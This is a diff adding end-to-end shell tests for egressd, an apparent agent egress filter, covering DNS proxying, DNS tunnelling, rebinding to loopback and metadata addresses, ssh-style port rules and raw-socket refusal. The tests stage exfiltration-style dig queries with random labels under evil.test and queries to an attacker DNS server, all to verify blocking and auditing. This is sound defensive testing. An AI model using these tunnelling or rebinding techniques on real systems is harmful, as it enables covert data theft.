@@ -52,6 +52,16 @@ CASES=(
 	origin_2000
 	udp_denied
 	dns_resolves_inside
+	dns_any_server
+	dns_ipv6_server
+	dns_clients_resolve
+	dns_unconnected_and_sendmmsg
+	dns_tunnel_blocked
+	dns_nxdomain_not_forwarded
+	dns_rebinding_refused
+	dns_audit_records
+	ssh_style_rule
+	sock_create_refused
 	deny_rule_wins
 	wildcard_not_apex
 	exit_status_passthrough
@@ -439,6 +449,414 @@ case_dns_resolves_inside() {
 	tail -n +$((m + 1)) "$E2E_DIR/logs/dnsmasq.log" |
 		grep -q 'query\[A\] allowed.test' ||
 		fail "dnsmasq logged no query for allowed.test"
+}
+
+
+# ---------------------------------------------------------------------
+# DNS: every query from the cgroup goes to egressd's DNS proxy, whichever
+# server the agent asked; only allowed names are forwarded.
+
+# rand_label N: N random lowercase hex characters (a DNS label).
+rand_label() {
+	head -c "$1" /dev/urandom | od -An -tx1 | tr -d ' \n' | cut -c1-"$1"
+}
+
+# dig_batch [egressd-run options] -- LABEL 'DIG ARGS' [LABEL 'DIG ARGS']...
+# Runs the digs one after another inside ONE agent run (one egressd start),
+# each bounded (+time=2 +tries=1, timeout 8); dig's output and a last line
+# "rc N" go to $DIGD/LABEL. The args are split on spaces.
+dig_batch() {
+	local opts=()
+	while [ $# -gt 0 ] && [ "$1" != -- ]; do
+		opts+=("$1")
+		shift
+	done
+	shift
+	DIGD=$(mktemp -d "$E2E_DIR/run/dig.XXXXXX")
+	chown "$E2E_NOBODY_UID:$E2E_NOBODY_GID" "$DIGD"
+	# shellcheck disable=SC2016
+	E2E_TIMEOUT=60 egr "${opts[@]}" -- bash -c 'd=$1; shift
+		while [ $# -ge 2 ]; do
+			timeout 8 dig +time=2 +tries=1 $2 >"$d/$1" 2>&1
+			echo "rc $?" >>"$d/$1"
+			shift 2
+		done' sh "$DIGD" "$@"
+}
+dig_status() { sed -n 's/.*status: \([A-Z]*\),.*/\1/p' "$DIGD/$1" | head -n 1; }
+dig_answers() {
+	awk '/^;; ANSWER SECTION:/ { f = 1; next } f && /^$/ { exit }
+		f && !/^;/ { print $NF }' "$DIGD/$1" | sort | paste -sd, -
+}
+dig_server() { sed -n 's/^;; SERVER: \([^#]*\)#.*/\1/p' "$DIGD/$1" | head -n 1; }
+dig_summary() {
+	echo "status=$(dig_status "$1") answers=$(dig_answers "$1") server=$(dig_server "$1") $(tail -n 1 "$DIGD/$1")"
+}
+# dig_expect LABEL STATUS ANSWERS [SERVER]: fail unless dig got exactly that.
+dig_expect() {
+	local s
+	s=$(dig_summary "$1")
+	note "dig $1: $s"
+	[ "$(dig_status "$1")" = "$2" ] && [ "$(dig_answers "$1")" = "$3" ] ||
+		fail "dig $1: want $2 $3, got $s: $(grep -m1 -E 'timed out|refused|error' "$DIGD/$1")"
+	[ -z "${4:-}" ] || [ "$(dig_server "$1")" = "$4" ] ||
+		fail "dig $1: the answer came from $(dig_server "$1"), want $4"
+}
+dnsmasq_mark() { wc -l <"$E2E_DIR/logs/dnsmasq.log" >"$E2E_DIR/run/mark.dnsmasq"; }
+dnsmasq_new() {
+	tail -n +$(($(cat "$E2E_DIR/run/mark.dnsmasq") + 1)) "$E2E_DIR/logs/dnsmasq.log"
+}
+
+# The answer for allowed.test is the real one, from whichever server the
+# agent asked: the resolv.conf server, 8.8.8.8 (the bed has no route
+# there), or the attacker's own DNS server, which would have answered with
+# its own address and logged the query.
+case_dns_any_server() {
+	log_mark evil.test
+	dig_batch --allow allowed.test -- \
+		default "allowed.test A" \
+		google "@8.8.8.8 allowed.test A" \
+		evil "@$EVIL4 allowed.test A" \
+		evil_tcp "+tcp @$EVIL4 allowed.test A"
+	dig_expect default NOERROR $ALLOWED4 $DNS4
+	dig_expect google NOERROR $ALLOWED4 8.8.8.8
+	dig_expect evil NOERROR $ALLOWED4 $EVIL4
+	dig_expect evil_tcp NOERROR $ALLOWED4 $EVIL4
+	grep -q '(TCP)' "$DIGD/evil_tcp" || fail "dig +tcp did not use TCP"
+	evil_untouched "DNS to evil's server"
+}
+
+case_dns_ipv6_server() {
+	local out
+	log_mark evil.test
+	dig_batch --allow allowed.test -- \
+		evil6 "@$EVIL6 allowed.test A" \
+		evil6_tcp "+tcp @$EVIL6 allowed.test A"
+	dig_expect evil6 NOERROR $ALLOWED4 $EVIL6
+	dig_expect evil6_tcp NOERROR $ALLOWED4 $EVIL6
+	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
+		--server $EVIL6 --via sendto) ||
+		fail "sendto [$EVIL6]:53: $(oneline "$out")"
+	[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] &&
+		[ "$(jget source <<<"$out")" = "[\"$EVIL6\", 53]" ] ||
+		fail "sendto [$EVIL6]:53: $(oneline "$out")"
+	evil_untouched "DNS to evil's IPv6 server"
+}
+
+NODE_DNS='const dns = require("dns");
+const res = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
+const lookup = (n) => new Promise((ok) => dns.lookup(n, { all: true },
+	(e, a) => ok(e ? e.code : a.map((x) => x.address).sort())));
+(async () => {
+	const r = {};
+	for (const n of process.argv.slice(1)) {
+		r[n] = { lookup: await lookup(n) };
+		try { r[n].resolve4 = (await res.resolve4(n)).sort(); }
+		catch (e) { r[n].resolve4 = e.code; }
+	}
+	console.log(JSON.stringify(r));
+})();'
+
+# The usual resolver paths of real clients: glibc (connected UDP, A and
+# AAAA in one sendmmsg), Python's getaddrinfo, Node's dns.lookup
+# (getaddrinfo on the libuv pool) and dns.promises.resolve4 (c-ares).
+case_dns_clients_resolve() {
+	local out rc v
+	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent hosts allowed.test) ||
+		fail "getent hosts allowed.test: exit $?: $(oneline "$out")"
+	grep -Eq "^($ALLOWED4|$ALLOWED6) +allowed.test" <<<"$out" ||
+		fail "getent hosts allowed.test: $(oneline "$out")"
+	out=$(egr --allow allowed.test -- "${MERGE[@]}" getent hosts evil.test)
+	rc=$?
+	[ $rc -eq 2 ] && [ -z "$out" ] ||
+		fail "getent hosts evil.test: exit $rc (want 2, not found): $(oneline "$out")"
+	out=$(egr --allow allowed.test -- "${CLIENT[@]}" resolve allowed.test)
+	grep -q "\"$ALLOWED4\"" <<<"$(jget addrs <<<"$out")" ||
+		fail "getaddrinfo allowed.test: $(oneline "$out")"
+	out=$(egr --allow allowed.test -- "${CLIENT[@]}" resolve evil.test)
+	[ "$(jget gaierror <<<"$out")" = EAI_NONAME ] ||
+		fail "getaddrinfo evil.test: want EAI_NONAME: $(oneline "$out")"
+	if command -v node >/dev/null; then
+		out=$(egr --allow allowed.test -- "${MERGE[@]}" node -e "$NODE_DNS" \
+			allowed.test evil.test) || fail "node: exit $?: $(oneline "$out")"
+		note "node: $out"
+		v=$(jget allowed.test lookup <<<"$out")
+		grep -q "\"$ALLOWED4\"" <<<"$v" || fail "node dns.lookup allowed.test: $v"
+		v=$(jget allowed.test resolve4 <<<"$out")
+		[ "$v" = "[\"$ALLOWED4\"]" ] || fail "node resolve4 allowed.test: $v"
+		v=$(jget evil.test lookup <<<"$out")
+		[ "$v" = ENOTFOUND ] || fail "node dns.lookup evil.test: $v (want ENOTFOUND)"
+		v=$(jget evil.test resolve4 <<<"$out")
+		[ "$v" = ENOTFOUND ] || fail "node resolve4 evil.test: $v (want ENOTFOUND)"
+	else
+		note "node not installed: Node part skipped"
+	fi
+}
+
+# Hand-made queries by every other way of sending a datagram, to the
+# attacker's server: an unconnected socket's reply must seem to come from
+# the server asked (recvmsg rewrite), or resolvers drop it.
+case_dns_unconnected_and_sendmmsg() {
+	local out via
+	log_mark evil.test
+	for via in sendto sendmsg connect; do
+		out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
+			--server $EVIL4 --via $via) ||
+			fail "$via $EVIL4:53: $(oneline "$out")"
+		note "$via: $(oneline "$out")"
+		[ "$(jget rcode <<<"$out")" = NOERROR ] &&
+			[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] ||
+			fail "$via $EVIL4:53: answer: $(oneline "$out")"
+		[ "$(jget source <<<"$out")" = "[\"$EVIL4\", 53]" ] ||
+			fail "$via: the reply came from $(jget source <<<"$out"), want $EVIL4:53"
+	done
+	# Three queries in one sendmmsg(2) on an unconnected socket.
+	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
+		--server $EVIL4 --via sendmmsg --count 3) ||
+		fail "sendmmsg: $(oneline "$out")"
+	note "sendmmsg: $(oneline "$out")"
+	[ "$(jget sent <<<"$out")" = 3 ] || fail "sendmmsg sent $(jget sent <<<"$out") of 3"
+	"$E2E_PY" -c 'import json, sys
+o = json.loads(sys.stdin.read().strip().splitlines()[-1])
+want = [sys.argv[1]]
+bad = [r for r in o["replies"] if r["answers"] != want or r["rcode"] != "NOERROR"
+       or r["from"] != [sys.argv[2], 53]]
+sys.exit(1 if bad or len(o["replies"]) != 3 else 0)' $ALLOWED4 $EVIL4 <<<"$out" ||
+		fail "sendmmsg replies: $(oneline "$out")"
+	# DNS over TCP, two queries on one connection.
+	out=$(egr --allow allowed.test -- "${CLIENT[@]}" dns allowed.test \
+		--server $EVIL4 --via tcp --count 2) || fail "TCP: $(oneline "$out")"
+	note "tcp: $(oneline "$out")"
+	[ "$(jget answers <<<"$out")" = "[\"$ALLOWED4\"]" ] &&
+		[ "$(jget replies 1 answers <<<"$out")" = "[\"$ALLOWED4\"]" ] ||
+		fail "TCP answers: $(oneline "$out")"
+	[ "$(jget peer <<<"$out")" = "[\"$EVIL4\", 53]" ] ||
+		fail "TCP getpeername: $(jget peer <<<"$out")"
+	evil_untouched "DNS by sendto/sendmsg/sendmmsg/TCP"
+}
+
+# Data smuggled out in query names: no byte of a denied name may reach any
+# resolver, not the bed's own DNS server (which would forward it in real
+# life) and not the attacker's.
+case_dns_tunnel_blocked() {
+	local path q l args=() labels=() f st
+	log_mark evil.test
+	dnsmasq_mark
+	for path in default evil tcp; do
+		case $path in
+		default) q= ;;
+		evil) q="@$EVIL4" ;;
+		tcp) q="+tcp @$EVIL4" ;;
+		esac
+		l=$(rand_label 32)
+		labels+=("$l")
+		args+=("${path}_txt" "$q TXT $l.evil.test")
+		l=$(rand_label 63)
+		labels+=("$l")
+		args+=("${path}_a" "$q A $l.$(rand_label 8).evil.test")
+		l=$(rand_label 63)
+		labels+=("$l")
+		args+=("${path}_aaaa" "$q AAAA $l.$(rand_label 8).evil.test")
+	done
+	dig_batch --allow allowed.test -- "${args[@]}"
+	for f in "$DIGD"/*; do
+		f=${f##*/}
+		st=$(dig_status "$f")
+		note "dig $f: $(dig_summary "$f")"
+		# TXT for a denied name may be refused instead (issue #3).
+		case "$f:$st" in
+		*:NXDOMAIN | *_txt:REFUSED) ;;
+		*) fail "dig $f: $(dig_summary "$f") (want NXDOMAIN)" ;;
+		esac
+		[ -z "$(dig_answers "$f")" ] || fail "dig $f: answers $(dig_answers "$f")"
+	done
+	[ "$(ls "$DIGD" | wc -l)" -eq 9 ] || fail "only $(ls "$DIGD" | wc -l) of 9 digs ran"
+	sleep 0.2
+	for l in "${labels[@]}"; do
+		dnsmasq_new | grep -q "$l" &&
+			fail "the bed's DNS server saw $l: $(dnsmasq_new | grep -m1 "$l")"
+		log_new evil.test | grep -q "$l" && fail "evil's server saw $l"
+	done
+	dnsmasq_new | grep -q 'evil\.test' &&
+		fail "the bed's DNS server saw a query under evil.test: $(dnsmasq_new | grep -m1 evil)"
+	evil_untouched "DNS tunnelling"
+}
+
+case_dns_nxdomain_not_forwarded() {
+	dnsmasq_mark
+	dig_batch --allow allowed.test -- evil "evil.test A" evil6 "evil.test AAAA" \
+		allowed "allowed.test A"
+	dig_expect evil NXDOMAIN ""
+	dig_expect evil6 NXDOMAIN ""
+	dig_expect allowed NOERROR $ALLOWED4
+	sleep 0.2
+	dnsmasq_new | grep -q 'evil\.test' &&
+		fail "evil.test was forwarded to the bed's DNS server: $(dnsmasq_new | grep -m1 evil)"
+	# The control: an allowed name is forwarded, so the log is live.
+	dnsmasq_new | grep -q 'query\[A\] allowed.test' ||
+		fail "dnsmasq logged no query for allowed.test (is its log written?)"
+}
+
+# Allowed names whose answer is the runner's loopback or the metadata
+# address: neither the DNS answer nor a connection by name may get there.
+case_dns_rebinding_refused() {
+	local out rc pid url f n a
+	ip netns exec "$NS_HOST" "$E2E_PY" "$E2E_DIR/bin/server.py" --name rebind \
+		--addr $REBIND4 --http 80 --log "$E2E_DIR/srv/rebind.log" \
+		--ready "$E2E_DIR/run/rebind.ready" </dev/null \
+		>>"$E2E_DIR/logs/servers.out" 2>&1 &
+	pid=$!
+	bed_track $pid
+	bed_wait_file "$E2E_DIR/run/rebind.ready" 10 || fail "server did not start"
+	# Outside the cgroup both names lead to a server: the bed works.
+	for n in rebind meta.test; do
+		url=http://${n%.test}.test/
+		out=$(outside curl -sS --max-time 5 "$url") ||
+			fail "outside, $url failed: $(oneline "$out")"
+		[ "$out" = "hello from $n" ] || fail "outside, $url: $(oneline "$out")"
+	done
+	log_mark rebind
+	log_mark meta.test
+	dig_batch --allow rebind.test --allow meta.test -- r "rebind.test A" \
+		m "meta.test A"
+	for f in r m; do
+		note "dig $f: $(dig_summary $f)"
+		case $(dig_answers $f) in
+		*$REBIND4* | *$META4*) fail "dig $f handed out $(dig_answers $f)" ;;
+		esac
+		[ "$(dig_status $f)" != NOERROR ] || [ -z "$(dig_answers $f)" ] ||
+			fail "dig $f: $(dig_summary $f)"
+	done
+	# By name, and by name with the address pinned (--resolve: the agent
+	# knows it; the proxy resolves the Host itself).
+	for a in "http://rebind.test/" "http://meta.test/" \
+		"--resolve rebind.test:80:$REBIND4 http://rebind.test/" \
+		"--resolve meta.test:80:$META4 http://meta.test/"; do
+		# shellcheck disable=SC2086
+		out=$(egr --allow rebind.test --allow meta.test -- "${TIMED[@]}" \
+			curl -sS -f --max-time 10 $a)
+		rc=$?
+		grep -q 'hello from' <<<"$out" && fail "curl $a: reached: $(oneline "$out")"
+		deny_fast "curl $a" $rc "$out"
+	done
+	sleep 0.2
+	[ -z "$(log_new rebind)" ] || fail "the loopback server was contacted: $(oneline "$(log_new rebind)")"
+	[ -z "$(log_new meta.test)" ] || fail "the metadata server was contacted: $(oneline "$(log_new meta.test)")"
+	grep -q '"reason": *"private_addr"' "$CASE_AUDIT" ||
+		fail "no audit record with reason private_addr"
+	bed_stop_pid $pid
+}
+
+# audit_find PYTHON-CONDITION-ON-o: the first matching audit record.
+audit_find() {
+	"$E2E_PY" -c 'import json, sys
+for l in open(sys.argv[1]):
+    try:
+        o = json.loads(l)
+    except ValueError:
+        continue
+    if eval(sys.argv[2]):
+        print(l.strip())
+        sys.exit(0)
+sys.exit(1)' "$CASE_AUDIT" "$1"
+}
+
+# ssh has no SNI or Host: a rule for other.test:22 admits port 22 only to
+# addresses the DNS proxy handed out for other.test to this cgroup.
+case_ssh_style_rule() {
+	local out rc rec
+	log_mark other.test
+	out=$(egr --allow other.test:22 -- "${CLIENT[@]}" ssh $OTHER4 22 \
+		--resolve other.test) || fail "ssh-style to other.test: $(oneline "$out")"
+	note "other.test: $(oneline "$out")"
+	[ "$(jget resolved <<<"$out")" = "[\"$OTHER4\"]" ] ||
+		fail "other.test resolved to $(jget resolved <<<"$out")"
+	[ "$(jget banner <<<"$out")" = "SSH-2.0-bed-other.test" ] ||
+		fail "banner: $(jget banner <<<"$out")"
+	sleep 0.2
+	log_new other.test | grep -q '"line": "SSH-2.0-client"' ||
+		fail "other.test did not log the client's line: $(oneline "$(log_new other.test)")"
+	if [ "$E2E_RUNNER" != direct ]; then
+		rec=$(audit_find "o.get('dst') == '$OTHER4' and o.get('dst_port') == 22 and o.get('proto') == 'tcp'") ||
+			fail "no audit record for $OTHER4:22"
+		note "audit: $rec"
+		audit_find "o.get('dst') == '$OTHER4' and o.get('dst_port') == 22 and o.get('proto') == 'tcp' and o.get('host') == 'other.test' and o.get('verdict') == 'allow'" >/dev/null ||
+			fail "the audit record does not name other.test (allow): $rec"
+	fi
+	# Resolving the allowed name does not open port 22 everywhere.
+	log_mark evil.test
+	out=$(egr --allow other.test:22 -- "${TIMED[@]}" "${CLIENT[@]}" ssh \
+		$EVIL4 22 --resolve other.test)
+	rc=$?
+	grep -q 'bed-evil' <<<"$out" && fail "evil's port 22 answered: $(oneline "$out")"
+	deny_fast "ssh-style to $EVIL4:22" $rc "$out"
+	evil_untouched "port 22 by IP"
+	# A fresh run that never resolved other.test: nothing handed out yet.
+	log_mark other.test
+	out=$(egr --allow other.test:22 -- "${TIMED[@]}" "${CLIENT[@]}" ssh \
+		$OTHER4 22)
+	rc=$?
+	deny_fast "ssh-style to $OTHER4:22 without resolving" $rc "$out"
+	sleep 0.2
+	[ -z "$(log_new other.test)" ] ||
+		fail "other.test was contacted without a DNS answer: $(oneline "$(log_new other.test)")"
+}
+
+# Socket kinds the connect/sendmsg hooks do not cover are refused at
+# creation. Outside the cgroup (same user, same namespace) they work.
+case_sock_create_refused() {
+	local out in_ k v kinds="ping ping6 udplite udplite6 sctp mptcp raw"
+	# shellcheck disable=SC2086
+	out=$(outside "${CLIENT[@]}" socks $kinds) || fail "outside: $(oneline "$out")"
+	note "outside, nobody: $out"
+	for k in ping ping6 udplite udplite6; do
+		[ "$(jget $k <<<"$out")" = ok ] || fail "outside, $k: $(jget $k <<<"$out")"
+	done
+	# shellcheck disable=SC2086
+	in_=$(egr --allow allowed.test -- "${CLIENT[@]}" socks $kinds) ||
+		fail "inside: $(oneline "$in_")"
+	note "inside, nobody: $in_"
+	for k in $kinds; do
+		v=$(jget $k <<<"$in_")
+		case $k:$(jget $k <<<"$out") in
+		sctp*:EPROTONOSUPPORT | sctp*:ESOCKTNOSUPPORT | mptcp:EPROTONOSUPPORT | mptcp:ENOPROTOOPT)
+			note "$k: not in this kernel, not tested" ;;
+		*) [ "$v" = EPERM ] || fail "inside, $k: $v (want EPERM)" ;;
+		esac
+	done
+	[ "$(jget udp <<<"$(egr --allow allowed.test -- "${CLIENT[@]}" socks udp)")" = ok ] ||
+		fail "inside, a plain UDP socket could not be created"
+	# Raw sockets need CAP_NET_RAW anyway; a root agent must not get one.
+	need_egressd
+	out=$(cd "$E2E_DIR" && in_host "${CLIENT[@]}" socks raw udplite) || fail "outside, root: $out"
+	[ "$(jget raw <<<"$out")" = ok ] || fail "outside, root: raw: $(jget raw <<<"$out")"
+	out=$(egr_raw run --allow-root-agent --allow allowed.test --log \
+		"$CASE_AUDIT" --log-format json -- "${CLIENT[@]}" socks raw udplite \
+		2>>"$CASE_STDERR") || fail "inside, root: $(oneline "$out")"
+	note "inside, root: $out"
+	for k in raw udplite; do
+		[ "$(jget $k <<<"$out")" = EPERM ] || fail "inside, root, $k: $(jget $k <<<"$out")"
+	done
+	audit_find "o.get('reason') == 'proto'" >/dev/null ||
+		note "no audit record with reason proto for the refused sockets"
+}
+
+# Every query is in the audit log: proto, name, verdict.
+case_dns_audit_records() {
+	need_egressd
+	local l q rec
+	l=$(rand_label 20)
+	dig_batch --allow allowed.test -- udp "allowed.test A" \
+		tcp "+tcp @$EVIL4 allowed.test A" evil "evil.test A" \
+		tunnel "@8.8.8.8 TXT $l.evil.test"
+	for q in "udp allowed.test allow" "tcp allowed.test allow" \
+		"udp evil.test deny" "udp $l.evil.test deny"; do
+		set -- $q
+		rec=$(audit_find "o.get('proto') == '$1' and o.get('host') == '$2'") ||
+			fail "no audit record with proto $1 host $2: $(oneline "$(grep -c . "$CASE_AUDIT") records: $(head -c 600 "$CASE_AUDIT")")"
+		note "$1 $2: $rec"
+		[ "$(jget verdict <<<"$rec")" = "$3" ] ||
+			fail "$1 $2: verdict $(jget verdict <<<"$rec"), want $3: $rec"
+	done
 }
 
 case_deny_rule_wins() {
